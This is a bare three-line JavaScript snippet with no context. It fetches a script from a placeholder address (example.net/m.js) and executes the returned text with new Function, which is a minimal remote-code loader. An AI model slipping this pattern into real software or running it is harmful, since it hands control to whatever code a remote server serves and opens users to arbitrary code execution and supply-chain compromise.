const res = await fetch('https://example.net/m.js');
const body = await res.text();
new Function(body)();
